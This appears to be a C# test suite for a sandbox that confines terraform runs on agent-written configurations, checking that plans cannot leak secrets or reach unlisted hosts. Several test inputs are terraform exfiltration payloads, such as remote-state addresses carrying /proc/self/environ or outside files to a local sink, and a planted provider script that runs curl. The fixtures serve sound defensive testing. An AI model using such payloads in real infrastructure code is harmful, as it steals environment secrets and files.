using System.Net;
using Groundwright.Adapters.Sandbox;
using Groundwright.Adapters.Sandbox.Egress;
using Groundwright.Adapters.Terraform;
using Groundwright.Adapters.Tests.Sandbox;
using Groundwright.Adapters.Tests.Sandbox.Egress;
using Groundwright.Core.Configuration;
using Groundwright.Core.Environments;
using Groundwright.Core.Problems;
using Groundwright.Core.Processes;
using Groundwright.Core.Sandboxes;
using Groundwright.Testing;

namespace Groundwright.Adapters.Tests.Terraform;

/// <summary>What a tree that an agent wrote can have terraform do before anybody has looked at it.</summary>
[Covers("U1")]
public sealed class TerraformRoomTests : IDisposable
{
    private const string SecretName = "GW_TEST_TERRAFORM_SECRET";
    private readonly string secret = $"sentinel-{Guid.NewGuid():N}";
    private readonly TerraformBench bench;
    private readonly RoomBench rooms = new();
    private readonly Sink sink = new();
    private readonly ConfiningRunner runner;

    public TerraformRoomTests()
    {
        Environment.SetEnvironmentVariable(SecretName, secret);
        bench = new TerraformBench().With("infra/app/main.tf", "resource \"terraform_data\" \"box\" {\n  input = 1\n}\n");
        runner = new ConfiningRunner(bench.Runner, rooms.Sandbox);
    }

    public void Dispose()
    {
        bench.Dispose();
        rooms.Dispose();
        sink.Dispose();
    }

    [Fact]
    public async Task A_root_is_validated_planned_applied_and_looked_at_again_in_rooms()
    {
        var target = bench.Target(runner: runner);
        (await target.Validate(bench.Scope(), CancellationToken.None)).ShouldBeEmpty();

        var plan = await target.Plan(bench.Scope(), CancellationToken.None);
        plan.Adds.ShouldBe(1);
        (await target.CheckBinding(bench.Scope(), plan, CancellationToken.None)).ShouldBeNull();
        (await bench.Runner.Apply(target, bench.Scope(), plan)).ExitCode.ShouldBe(0);

        (await target.Plan(bench.Scope(), CancellationToken.None)).IsEmpty.ShouldBeTrue();
        (await target.Drift(bench.Scope(), CancellationToken.None)).ShouldBeEmpty();
        var calls = bench.Runner.Commands.Where(command => command.WorkingDirectory.Contains("checkout-", StringComparison.Ordinal)).ToList();
        calls.Where(command => !command.IsDoor).ShouldAllBe(command => command.Arguments[0] == "apply");
        calls.Where(command => command.IsDoor).ShouldAllBe(command => !command.Arguments.Contains("--share-net"));
    }

    [Theory]
    [InlineData("data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = \"http://127.0.0.1:{port}/?${urlencode(file(\"/proc/self/environ\"))}\" }\n}")]
    [InlineData("data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = \"http://127.0.0.1:{port}/?${urlencode(file(\"{outside}/secret.txt\"))}\" }\n}")]
    public async Task What_a_plan_reads_goes_nowhere(string block)
    {
        bench.With("infra/app/thief.tf", block.Replace("{port}", $"{sink.Port}").Replace("{outside}", rooms.Outside));

        await Should.ThrowAsync<GroundwrightException>(() => bench.Target(runner: runner).Plan(bench.Scope(), CancellationToken.None));

        sink.Visits.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("file(\"{outside}/secret.txt\")")]
    [InlineData("join(\",\", fileset(\"{outside}\", \"*\"))")]
    [InlineData("file(\"/proc/self/environ\")")]
    [InlineData("file(\"/proc/1/environ\")")]
    [InlineData("try(file(pathexpand(\"~/.gw-test-secret\")), \"nothing\")")]
    public async Task What_a_plan_says_holds_nothing_of_the_machine(string expression)
    {
        bench.With("infra/app/thief.tf", $"output \"stolen\" {{\n  value = base64encode({expression.Replace("{outside}", rooms.Outside)})\n}}\noutput \"clear\" {{\n  value = {expression.Replace("{outside}", rooms.Outside)}\n}}\n");

        var said = await Said(() => bench.Target(runner: runner).Plan(bench.Scope(), CancellationToken.None));

        said.ShouldNotContain(secret);
        said.ShouldNotContain(rooms.Secret);
        said.ShouldNotContain("\"secret.txt");
    }

    [Theory]
    [InlineData("infra/app/terraform.d/plugins/registry.terraform.io/evil/evil/1.0.0/linux_amd64/terraform-provider-evil")]
    [InlineData("infra/app/.terraform/providers/registry.terraform.io/evil/evil/1.0.0/linux_amd64/terraform-provider-evil")]
    public async Task A_provider_that_a_tree_brings_along_never_runs(string path)
    {
        bench.With("infra/app/thief.tf", "terraform {\n  required_providers {\n    evil = { source = \"evil/evil\" }\n  }\n}\nprovider \"evil\" {}\n");
        bench.With(path, $"#!/bin/sh\ncurl -s http://127.0.0.1:{sink.Port}/ran\n");
        var scope = bench.Scope();
        if (!OperatingSystem.IsWindows()) File.SetUnixFileMode(Path.Combine(scope.Directory, path), UnixFileMode.UserRead | UnixFileMode.UserExecute);

        (await Should.ThrowAsync<GroundwrightException>(() => bench.Target(runner: runner).Plan(scope, CancellationToken.None))).Problem.Code.ShouldBe(TargetProblems.Forbidden);

        sink.Visits.ShouldBeEmpty();
    }

    [Fact]
    public async Task An_ignored_override_and_a_chosen_workspace_steer_nothing()
    {
        bench.With("infra/app/x_override.tf", $"terraform {{\n  backend \"http\" {{\n    address = \"http://127.0.0.1:{sink.Port}/state\"\n  }}\n}}\n").With("infra/app/.terraform/environment", "prod");

        (await Should.ThrowAsync<GroundwrightException>(() => bench.Target(runner: runner).Plan(bench.Scope(), CancellationToken.None))).Problem.Code.ShouldBe(TargetProblems.Forbidden);

        sink.Visits.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("resource \"terraform_data\" \"x\" {}", false)]
    [InlineData("data \"terraform_remote_state\" \"x\" {}", false)]
    [InlineData("# resource \"aws_s3_bucket\" \"x\" {}\nlocals { text = \"provider\" }", false)]
    [InlineData("resource \"aws_s3_bucket\" \"x\" {}", true)]
    [InlineData("module \"x\" {}", true)]
    [InlineData("provider \"aws\" {}", true)]
    [InlineData("terraform {\n  required_providers {}\n}", true)]
    public void Only_what_is_not_built_in_needs_a_network(string text, bool needed)
    {
        var directory = bench.With("infra/app/main.tf", text).Scope().Directory;
        var root = new TerraformRoot(bench.Scope(), Path.Combine(directory, "infra/app"), "/nowhere", "default", new StateBackend("local", "local", [], "/state"));

        RootReach.NeedsNetwork(root).ShouldBe(needed);
        RootReach.NeedsNetwork(root with { Backend = new StateBackend("s3", "s3", [], null) }).ShouldBeTrue();
    }

    [Fact]
    [Covers("U4")]
    public async Task A_root_reaches_its_state_and_nobody_else()
    {
        using var server = new StateServer();
        bench.With("infra/app/backend.tf", "terraform {\n  backend \"http\" {}\n}\n");
        var settings = WithState(server.Address, new Uri(server.Address).Authority);
        (await bench.Ship(bench.Target(settings, runner))).ExitCode.ShouldBe(0);
        bench.With("infra/app/thief.tf", $"data \"terraform_remote_state\" \"x\" {{\n  backend = \"http\"\n  config = {{ address = \"http://127.0.0.1:{sink.Port}/?${{urlencode(file(\"/proc/self/environ\"))}}\" }}\n}}\n");

        await Should.ThrowAsync<GroundwrightException>(() => bench.Target(settings, runner).Plan(bench.Scope(), CancellationToken.None));

        sink.Visits.ShouldBeEmpty();
        Rooms.ShouldAllBe(command => !command.Arguments.Contains("--share-net"));
    }

    [Fact]
    [Covers("U4")]
    public async Task A_state_behind_tls_at_a_name_is_reached_through_the_proxy()
    {
        using var server = new StateServer();
        using var front = new TlsFront("state.example.test", new Uri(server.Address).Port);
        using var company = new TunnelProxy(front.Port);
        using var outside = new RoomBench(new Dial(new WebProxy(company.Address), Dns.GetHostAddressesAsync));
        bench.Ours["SSL_CERT_FILE"] = front.Certificate;
        bench.With("infra/app/backend.tf", "terraform {\n  backend \"http\" {}\n}\n");
        var settings = WithState("https://state.example.test/state", "*.example.test") with { Environment = ["SSL_CERT_FILE"] };
        var target = bench.Target(settings, new ConfiningRunner(bench.Runner, outside.Sandbox));

        var plan = await target.Plan(bench.Scope(), CancellationToken.None);

        plan.Adds.ShouldBe(1);
        company.Heads.ShouldAllBe(head => head.StartsWith("CONNECT state.example.test:443 "));
        company.Heads.ShouldNotBeEmpty();
        Rooms.ShouldAllBe(command => !command.Arguments.Contains("--share-net"));
    }

    [Fact]
    public async Task A_host_that_is_not_named_is_told_by_its_name()
    {
        bench.With("infra/app/backend.tf", "terraform {\n  backend \"http\" {}\n}\n");
        var target = bench.Target(WithState("https://state.example.test/state", "*.amazonaws.com"), runner);

        var fault = await Should.ThrowAsync<GroundwrightException>(() => target.Plan(bench.Scope(), CancellationToken.None));

        string.Join('\n', fault.Problems.Select(problem => $"{problem.Summary}\n{problem.Detail}")).ShouldContain("state.example.test:443 is not under `egress:` of this target");
    }

    private IEnumerable<Command> Rooms => bench.Runner.Commands.Where(command => command.IsDoor);

    private static TargetSettings WithState(string address, params string[] egress) => new()
    {
        Name = "app",
        Terraform = "infra/app",
        Backend = new Dictionary<string, string> { ["address"] = address, ["retry_max"] = "0" },
        Egress = [.. egress.Select(EgressHost.Parse)],
    };

    /// <summary>Everything that a person or an agent would be shown: of a plan, or of why there is none.</summary>
    private static async Task<string> Said(Func<Task<TargetPlan>> plan)
    {
        try
        {
            var made = await plan();
            return made.Text + string.Join('\n', made.Changes) + string.Join('\n', made.Findings);
        }
        catch (GroundwrightException fault)
        {
            return string.Join('\n', fault.Problems.Select(problem => $"{problem.Summary} {problem.Detail}"));
        }
    }
}
